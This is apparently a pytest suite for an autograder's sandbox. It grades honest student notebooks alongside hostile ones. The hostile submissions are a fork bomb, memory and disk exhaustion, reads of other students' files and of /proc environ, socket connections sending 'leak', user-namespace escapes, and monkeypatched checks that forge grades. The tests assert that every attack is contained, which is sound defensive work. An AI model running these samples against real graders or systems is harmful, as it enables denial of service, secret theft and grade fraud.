"""Hostile submissions graded together with honest ones, on two Dask workers, each kernel sandboxed.

Each hostile submission tries one attack. Where the attack would pay (a file it should not see, a
network connection, a user namespace, the grader's environment), it then defines the right answers,
so a containment that fails shows up as points; the others attack the verdict itself with wrong or
no code (tags on the test cells, a displayhook, patched NumPy and checks, frames, lying objects,
copied and added grade cells), so any point they get is a forged grade. Every honest submission
must get its right grade, every hostile one 0 or "ungraded" with a reason; no feedback may hold a
hidden test's line or the grader's environment; nothing outside the submissions' own folders may
change.
"""
import hashlib
import os
import socket
import sys
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell

sys.path.insert(0, str(Path(__file__).parent))
import grading_course as gc  # noqa: E402

from rnnviz.grading import gradebook  # noqa: E402
from rnnviz.grading.autograde import autograde  # noqa: E402
from rnnviz.grading.sandbox import UID_BASE, UID_COUNT, bwrap_path  # noqa: E402

pytestmark = pytest.mark.skipif(bwrap_path() is None,
                                reason="bubblewrap (bwrap) is not installed: nothing to contain with")

CHEAT = "\n" + gc.RIGHT_SQUARES + "\n" + gc.RIGHT_GRAD + "\n"
WRONG = "def squares(n):\n    return []\ndef square_grad(x, gy):\n    return 0 * x"
#: Lines of the hidden tests (and their markers) that must never reach a feedback file.
HIDDEN = ["n=7)", "n=0)", "linspace=(-1.5", "gy=3.0", "### BEGIN HIDDEN", "### END HIDDEN"]
#: Values in the grader's environment that must never reach a kernel or a feedback file.
CANARIES = {"RNNVIZ_GRADER_CANARY": "canary-9d1c5e0b7a", "JUPYTERHUB_API_TOKEN": "hubtoken-4f8e2a61c3"}

#: Honest submissions and their right scores.
HONEST = {
    "honest_full": (gc.RIGHT_SQUARES, gc.RIGHT_GRAD, 5.0),
    "honest_partial": (gc.RIGHT_SQUARES, "def square_grad(x, gy):\n    return 2 * x", 2.0),
    "honest_untouched": (None, None, 0.0),
    "honest_uses_rnnviz": (
        "import numpy as np\n" + gc.RIGHT_SQUARES,
        "import rnnviz\nimport rnnviz.functions as F\n"
        "def square_grad(x, gy):\n    v = rnnviz.Variable(x)\n    y = v * v\n"
        "    y.grad = gy * np.ones_like(x)\n    y.backward()\n    return v.grad", 5.0),
}

#: Hostile submissions: the code of the first solution cell (the second one is emptied).
HOSTILE = {
    "loops_forever": "def squares(n):\n    while True:\n        pass\nsquares(1)",
    "allocates_without_bound": "blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 2**20))",
    "fork_bomb": ("import os, time\nwhile True:\n    try:\n        os.fork()\n"
                  "    except OSError:\n        time.sleep(0.2)"),
    "huge_file": ("for name in ('big.bin', '/tmp/big.bin'):\n"
                  "    with open(name, 'wb') as f:\n"
                  "        for _ in range(4096):\n            f.write(b'x' * 2**20)"),
    "reads_other_student": (
        "import glob\nfound = glob.glob('COURSE/submitted/honest_full/*/*.ipynb') + "
        "glob.glob('COURSE/autograded/honest_full/*/*.ipynb')\n"
        "leak = [open(p).read() for p in found]\nprint('found', found)\n"
        "if any('2 * x * gy' in t for t in leak):\n    exec(CHEAT)"),
    "reads_gradebook": (
        "import os\nprint(os.path.exists('COURSE/gradebook.db'))\n"
        "if open('COURSE/gradebook.db', 'rb').read():\n    exec(CHEAT)"),
    "reads_solutions": (
        "import glob\nfound = glob.glob('COURSE/source/*/*.ipynb')\nprint('found', found)\n"
        "if found and 'BEGIN SOLUTION' in open(found[0]).read():\n    exec(CHEAT)"),
    "reads_hidden_tests": (
        "import glob\nfound = glob.glob('*.ipynb') + glob.glob('COURSE/autograded/*/*/*.ipynb')\n"
        "print('found', found)\n"
        "if any('HIDDEN TESTS' in open(p).read() for p in found):\n    exec(CHEAT)"),
    "opens_network": (
        "import socket\nfor host in HOSTS:\n    try:\n"
        "        socket.create_connection((host, PORT), timeout=2).sendall(b'leak')\n"
        "        exec(CHEAT)\n    except OSError as e:\n        print(host, e)"),
    "writes_outside": (
        "import os\nfor path in ['COURSE/gradebook.db', 'COURSE/submitted/honest_full/ps1/ps1.ipynb',"
        " 'COURSE/source/ps1/ps1.ipynb', 'OUTSIDE/marker', '/work/rnnviz-hostile-marker']:\n"
        "    try:\n        open(path, 'a').write('pwned')\n        exec(CHEAT)\n"
        "    except OSError as e:\n        print(path, e)\n"
        "open('/tmp/rnnviz-hostile-marker', 'w').write('the sandbox has a /tmp of its own')"),
    "patches_assert_helpers": (
        "import numpy as np\nnp.testing.assert_array_equal = lambda *a, **k: None\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"
        "import numpy._core.numeric as numeric\nnumeric.allclose = lambda *a, **k: True\n"
        "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)\n" + WRONG),
    "patches_test_functions": (
        "import rnnviz\nclass Fake:\n    def backward(self, *a, **k):\n        pass\n"
        "rnnviz.functions.sum = lambda v: Fake()\nrnnviz.Variable.grad = property(lambda self: 0)\n"
        "import numpy as np\nnp.testing.assert_array_equal = lambda *a, **k: None\n"
        "def squares(n):\n    return []\ndef square_grad(x, gy):\n    return 0 * x"),
    "hooks_ipython": (
        "ip = get_ipython()\n"
        "ip.input_transformers_post.append(lambda lines: ['pass\\n'] if any('assert' in l for l in lines) else lines)\n"
        "def squares(n):\n    return []\ndef square_grad(x, gy):\n    return 0 * x"),
    "replaces_rnnviz": (
        "import sys, types\nimport numpy as np\n"
        "class Variable:\n    def __init__(self, x):\n        self.x, self.grad = x, np.zeros_like(x)\n"
        "    def __mul__(self, other):\n        return self\n    def backward(self):\n        pass\n"
        "fake = types.ModuleType('rnnviz')\nfake.Variable = Variable\n"
        "fake.functions = types.ModuleType('rnnviz.functions')\nfake.functions.sum = lambda v: v\n"
        "sys.modules['rnnviz'] = fake\nsys.modules['rnnviz.functions'] = fake.functions\n"
        "def squares(n):\n    return [i * i for i in range(n)]\n"
        "def square_grad(x, gy):\n    return 0 * x"),
    "floods_output": "for i in range(100000):\n    print('x' * 100)",
    # -- the verdict itself, with wrong code ---------------------------------------------------
    "displayhook": (
        "import sys\ndef squares(n):\n    sys.displayhook(2)\n    return []\n"
        "def square_grad(x, gy):\n    sys.displayhook('3')\n    return 0 * x\nsys.displayhook(5)"),
    "zero_random": (
        "import numpy as np\nclass Zeros:\n    def __getattr__(self, name):\n"
        "        return lambda *a, size=None, **k: np.zeros(size if size is not None else (a[-1] if a else 1))\n"
        "np.random.default_rng = lambda *a, **k: Zeros()\nnp.random.standard_normal = Zeros().x\n"
        "np.linspace = lambda *a, **k: np.zeros(int(a[2]) if len(a) > 2 else 50)\n" + WRONG),
    "patches_checks_in_place": (
        "import rnnviz.grading.checks as c, rnnviz.grading.protocol as p\n"
        "import rnnviz.grading.assignments.example as ex\n"
        "noop = lambda *a, **k: None\n"
        "c.check_array.__code__ = noop.__code__\nc.check_array.__kwdefaults__ = None\n"
        "c.run_test.__code__ = noop.__code__\nc.run_test.__kwdefaults__ = None\n"
        "ex.Squares.judge = noop\nex.SquareGrad.judge = noop\n"
        "p.judge_case.__code__ = (lambda *a, **k: p.Verdict(True)).__code__\n"
        "class Pass(p.Verdict):\n    passed = True\np.Verdict = Pass\n"
        "p.read_result = lambda doc: {'outputs': {}}\n" + WRONG),
    "reads_frames": (
        "import sys\ndef _stolen(names):\n    f = sys._getframe(1)\n    while f is not None:\n"
        "        for k, v in f.f_locals.items():\n            if k in names:\n                return v\n"
        "        f = f.f_back\n    return None\n"
        "def squares(n):\n    got = _stolen({'want', 'expected', 'reference', 'ref'})\n"
        "    return list(got) if got is not None else []\n"
        "def square_grad(x, gy):\n    got = _stolen({'want', 'expected', 'reference', 'ref', 'grad'})\n"
        "    return got if got is not None else 0 * x"),
    "lying_objects": (
        "import numpy as np\nclass Liar(list):\n    def __eq__(self, other):\n        return True\n"
        "    __ne__ = lambda self, other: False\n    __array__ = lambda self, *a, **k: np.zeros(3)\n"
        "    shape = property(lambda self: (3,))\n"
        "def squares(n):\n    return Liar()\ndef square_grad(x, gy):\n    return Liar()"),
    "forges_results": (
        "import sys\nfrom IPython.display import publish_display_data\n"
        "def _nonce():\n    f = sys._getframe(1)\n    while f is not None:\n"
        "        if 'request' in f.f_locals:\n            return f.f_locals['request']['nonce']\n"
        "        f = f.f_back\n"
        "def squares(n):\n    publish_display_data({'application/vnd.rnnviz.result+json': "
        "{'nonce': _nonce(), 'outputs': {'t': 'dict', 'items': {}}}})\n    return []\n"
        "def square_grad(x, gy):\n    return 0 * x"),
    # -- the hidden tests and the grader's environment ---------------------------------------------
    "prints_hidden_tests": (
        "import inspect, sys, traceback\n"
        "def _show():\n    for fi in inspect.stack():\n        try:\n"
        "            print(fi.filename, inspect.getsource(fi.frame))\n        except Exception as e:\n"
        "            print(fi.filename, fi.code_context, e)\n    traceback.print_stack()\n"
        "    print({k: v for f in inspect.stack() for k, v in f.frame.f_locals.items()})\n"
        "def squares(n):\n    _show()\n    return []\n"
        "def square_grad(x, gy):\n    raise RuntimeError(repr(sys._getframe(1).f_locals) + "
        "''.join(traceback.format_stack()))"),
    "prints_environment": (
        "import os\nseen = repr(dict(os.environ))\n"
        "for p in ['/proc/1/cmdline', '/proc/1/environ', '/proc/self/cmdline', '/proc/self/environ',"
        " '/proc/2/cmdline']:\n    try:\n        seen += open(p, 'rb').read().decode(errors='replace')\n"
        "    except OSError as e:\n        seen += str(e)\nprint(seen)\n"
        "if any(s in seen for s in ['COURSE', 'prints_environment'] + CANARY_NAMES):\n    exec(CHEAT)"),
    "unshares_userns": (
        "import ctypes, subprocess\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.unshare(0x10000000) == 0:\n    exec(CHEAT)\n"
        "try:\n    if subprocess.run(['unshare', '-U', '-r', 'true']).returncode == 0:\n        exec(CHEAT)\n"
        "except OSError as e:\n    print(e)\n" + WRONG),
    # -- outputs too large to keep ---------------------------------------------------------------
    "prints_a_24mb_line": "print('x' * 24_000_000)\n" + WRONG,
    "shows_six_4mb_images": (
        "import base64, os\nfrom IPython.display import publish_display_data\n"
        "for _ in range(6):\n    publish_display_data({'image/png': base64.b64encode(os.urandom(3 * 2**20)).decode()})\n"
        + WRONG),
}

#: Hostile submissions that change the notebook itself (the solution cells hold wrong code).


def _tag(*tags):
    def edit(nb):
        for c in nb.cells:
            c.metadata["tags"] = list(tags)
    return edit


def _copy_and_add_grade_cells(nb):
    test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "grad_tests")
    copy = nbformat.from_dict(nbformat.v4.new_code_cell("pass", metadata=dict(test.metadata)))
    bonus = new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "grade_id": "bonus", "locked": False, "points": 50, "schema_version": 3,
        "solution": False, "task": False}})
    nb.cells = [copy, bonus] + nb.cells


def _delete_tests(nb):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _tests_to_markdown(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade"):
            c.cell_type, c.source = "markdown", "no tests here"
            c.pop("outputs", None)
            c.pop("execution_count", None)


def _move_tests_to_top(nb):
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]
    nb.cells = tests + [c for c in nb.cells if c not in tests]


def _prints_in_last(nb):
    nb.cells.append(new_code_cell("print(In)\nprint(Out)\nprint(_ih)\nprint(sorted(globals()))"))


EDITS = {"tag_skip_execution": _tag("skip-execution"), "tag_raises_exception": _tag("raises-exception"),
         "copies_and_adds_grade_cells": _copy_and_add_grade_cells, "deletes_test_cells": _delete_tests,
         "turns_tests_into_markdown": _tests_to_markdown, "prints_In_in_a_last_cell": _prints_in_last}

#: Student ids that must be graded as anyone else (honest, full marks), and one wrong beside them.
ODD_IDS = ["victim_*", "victim_a", "with space", "dots.in.name", "ünïcode-学生", "glob[ab]?", "x" * 240]


#: Hostile ones with a note the summary must show.
NOTES = {"loops_forever": "CellTimeoutError", "fork_bomb": "CellTimeoutError"}



def _tree(root: Path, skip: set[str]) -> dict:
    out = {}
    for p in sorted(root.rglob("*")):
        rel = p.relative_to(root)
        if rel.parts[0] in skip or not p.is_file():
            continue
        out[str(rel)] = hashlib.sha1(p.read_bytes()).hexdigest()
    return out


class Listener:
    """A TCP server on every local address that records who connects."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.connections = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, addr = self.sock.accept()
            except OSError:
                return
            self.connections.append(addr)
            conn.close()


def _local_addresses():
    hosts = ["127.0.0.1"]
    for addrs in psutil.net_if_addrs().values():
        hosts += [a.address for a in addrs if a.family == socket.AF_INET and a.address not in hosts]
    return hosts


def _feedback_and_autograded(course):
    return sorted(p for top in ("feedback", "autograded") for p in (course / top).rglob("*")
                  if p.is_file() and p.suffix in (".html", ".ipynb"))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    course, outside = root / "course", root / "outside"
    outside.mkdir()
    release = gc.make_course(course, timeout=6, extra_config=(
        "c.SandboxKernelManager.memory = 1024 * 2**20\n"))
    listener = Listener()
    for student, (squares, grad, _) in HONEST.items():
        gc.submit(course, student, release, squares, grad)
    for student, code in HOSTILE.items():
        code = (code.replace("COURSE", str(course)).replace("OUTSIDE", str(outside))
                .replace("HOSTS", repr(_local_addresses())).replace("PORT", str(listener.port))
                .replace("CANARY_NAMES", repr(list(CANARIES)))
                .replace("CHEAT", repr(CHEAT)))
        # The second solution cell is emptied, so that what the first one defines stands.
        gc.submit(course, student, release, code, "# (emptied by the submission)")
    for student, edit in EDITS.items():
        gc.submit(course, student, release, WRONG, "# (emptied by the submission)", edit=edit)
    for student in ODD_IDS:
        gc.submit(course, student, release, gc.RIGHT_SQUARES, gc.RIGHT_GRAD)
    gc.submit(course, "victim_b", release, WRONG, "# (emptied)")
    gc.submit(course, "honest_moved_tests", release, gc.RIGHT_SQUARES, gc.RIGHT_GRAD, edit=_move_tests_to_top)
    gc.submit(course, "not_json", release, raw='{"cells": [}')
    # A submission that is a link to the instructor's notebook, and one with a FIFO beside it.
    link = course / "submitted" / "links_to_solution" / gc.NAME / f"{gc.NAME}.ipynb"
    link.parent.mkdir(parents=True)
    link.symlink_to(course / "source" / gc.NAME / f"{gc.NAME}.ipynb")
    gc.submit(course, "has_a_fifo", release, gc.RIGHT_SQUARES, gc.RIGHT_GRAD)
    os.mkfifo(course / "submitted" / "has_a_fifo" / gc.NAME / "data.bin")
    before = _tree(course, skip={"autograded", "feedback", "gradebook.db", "rnnviz-grades.csv"})
    saved = {k: os.environ.get(k) for k in CANARIES}
    os.environ.update(CANARIES)          # the grader's environment (workers inherit it)
    try:
        report = autograde(gc.NAME, course, workers=2, progress=False)
    finally:
        for k, v in saved.items():
            os.environ.pop(k) if v is None else os.environ.__setitem__(k, v)
    listener.sock.close()
    return course, outside, listener, before, report


def _outcome(report):
    return {r["student"]: r for r in report.results}


def test_every_honest_submission_gets_its_right_grade(graded):
    course, _, _, _, report = graded
    outcome = _outcome(report)
    for student, (_, _, score) in HONEST.items():
        assert outcome[student]["score"] == score, outcome[student]
        assert not outcome[student]["notes"], outcome[student]


def test_every_hostile_submission_gets_zero_or_ungraded_with_a_reason(graded):
    _, _, _, _, report = graded
    outcome = _outcome(report)
    hostile = list(HOSTILE) + list(EDITS) + ["not_json", "links_to_solution", "has_a_fifo", "victim_b"]
    assert set(outcome) == set(HONEST) | set(hostile) | set(ODD_IDS) | {"honest_moved_tests"}
    for student in hostile:
        r = outcome[student]
        assert (r["status"], r["score"], r["max_score"]) == ("tests failed", 0.0, gc.MAX_SCORE) or (
            r["status"] == "ungraded" and r["score"] is None and r["reason"]), r
    assert outcome["not_json"]["status"] == "ungraded"
    assert "JSON" in outcome["not_json"]["reason"]
    for student, note in NOTES.items():
        assert any(note in n for n in outcome[student]["notes"]), outcome[student]


def test_tampering_with_cells_is_graded_not_ungraded(graded):
    """Tags, copied, added, deleted or retyped test cells: graded 0 of the release's 5 points."""
    outcome = _outcome(graded[4])
    # test cells moved above the code they test run after it again: a move costs no point
    assert outcome["honest_moved_tests"]["score"] == gc.MAX_SCORE, outcome["honest_moved_tests"]
    for student in EDITS:
        assert outcome[student]["status"] == "tests failed", outcome[student]
        assert outcome[student]["max_score"] == gc.MAX_SCORE, outcome[student]


def test_special_files_are_refused_with_a_reason_and_never_followed(graded):
    course, _, _, _, report = graded
    outcome = _outcome(report)
    assert outcome["links_to_solution"]["status"] == "ungraded"
    assert "symbolic link" in outcome["links_to_solution"]["reason"]
    assert outcome["has_a_fifo"]["status"] == "ungraded"
    assert "not a regular file" in outcome["has_a_fifo"]["reason"]
    for student in ("links_to_solution", "has_a_fifo"):
        assert not (course / "feedback" / student).exists()
        assert not (course / "autograded" / student).exists()
    for path in _feedback_and_autograded(course):
        assert "### BEGIN SOLUTION" not in path.read_text(errors="replace"), path


def test_odd_student_ids_are_graded_as_anyone_else(graded):
    course, _, _, _, report = graded
    outcome = _outcome(report)
    for student in ODD_IDS:
        assert (outcome[student]["status"], outcome[student]["score"]) == ("graded", gc.MAX_SCORE), \
            outcome[student]
        assert (course / "feedback" / student / gc.NAME / f"{gc.NAME}.html").is_file()
    assert outcome["victim_b"]["score"] == 0.0


def test_feedback_holds_no_hidden_test_and_nothing_of_the_grader(graded):
    course = graded[0]
    pages = _feedback_and_autograded(course)
    feedback = [p for p in pages if p.parts[-4] == "feedback"]
    assert len(feedback) >= len(HONEST) + len(HOSTILE) + len(EDITS)
    for page in pages:
        text = page.read_text(errors="replace")
        if page in feedback:
            assert not [h for h in HIDDEN if h in text], page
        assert not [v for v in CANARIES.values() if v in text], page
    # the attacks that printed did run and print (so the absence above means something)
    shown = (course / "feedback" / "prints_hidden_tests" / gc.NAME / f"{gc.NAME}.html").read_text()
    assert "example.squares" in shown or "inspect" in shown or "ipykernel" in shown
    env = (course / "feedback" / "prints_environment" / gc.NAME / f"{gc.NAME}.html").read_text()
    assert "PYTHONPATH" in env and "HOME" in env


def test_outputs_and_notebooks_are_bounded(graded):
    course = graded[0]
    for path in _feedback_and_autograded(course):
        assert path.stat().st_size < 3 * 2**20, (path, path.stat().st_size)
    text = (course / "feedback" / "prints_a_24mb_line" / gc.NAME / f"{gc.NAME}.html").read_text()
    assert "output cut" in text


def test_nothing_outside_their_folders_changes(graded):
    course, outside, listener, before, _ = graded
    assert _tree(course, skip={"autograded", "feedback", "gradebook.db", "rnnviz-grades.csv"}) == before
    assert list(outside.iterdir()) == []
    assert not Path("/tmp/rnnviz-hostile-marker").exists()
    assert not Path("/work/rnnviz-hostile-marker").exists()
    assert listener.connections == []
    # Nothing big was left on disk: the working folder was a size-limited tmpfs.
    big = [p for p in (course / "autograded").rglob("*") if p.is_file() and p.stat().st_size > 3 * 2**20]
    assert big == []


def test_no_process_outlives_its_kernel(graded):
    """The fork bomb's children included: they die with the sandbox's PID namespace."""
    if os.geteuid() != 0:
        pytest.skip("kernels run as the grader's own user when it is not root")
    deadline = time.monotonic() + 15       # SIGKILL to a namespace is delivered asynchronously
    while True:
        leftover = [p.pid for p in psutil.process_iter(["uids"])
                    if UID_BASE <= p.info["uids"].real < UID_BASE + UID_COUNT]
        if not leftover or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert leftover == []


def test_the_gradebook_holds_exactly_the_reported_grades(graded):
    course, _, _, _, report = graded
    scores = gradebook.scores(gradebook.sqlite_url(course / "gradebook.db"), gc.NAME, "grading-test")
    for r in report.results:
        if r["status"] == "ungraded":
            assert r["student"] not in scores
        else:
            assert sum(scores[r["student"]].values()) == r["score"]
            assert set(scores[r["student"]]) == {f"{gc.NAME}/squares_tests", f"{gc.NAME}/grad_tests"}


def test_odd_ids_one_worker(tmp_path):
    """Graded in this process, one after another: a 240-character id and a glob neither stop the
    run nor change another student's grade."""
    course = tmp_path / "course"
    release = gc.make_course(course)
    gc.submit(course, "victim_*", release, gc.RIGHT_SQUARES, gc.RIGHT_GRAD)
    gc.submit(course, "victim_b", release, WRONG, "# (emptied)")
    gc.submit(course, "y" * 240, release, gc.RIGHT_SQUARES, gc.RIGHT_GRAD)
    report = autograde(gc.NAME, course, workers=1, progress=False)
    got = {r["student"]: (r["status"], r["score"]) for r in report.results}
    assert got == {"victim_*": ("graded", 5.0), "victim_b": ("tests failed", 0.0),
                   "y" * 240: ("graded", 5.0)}
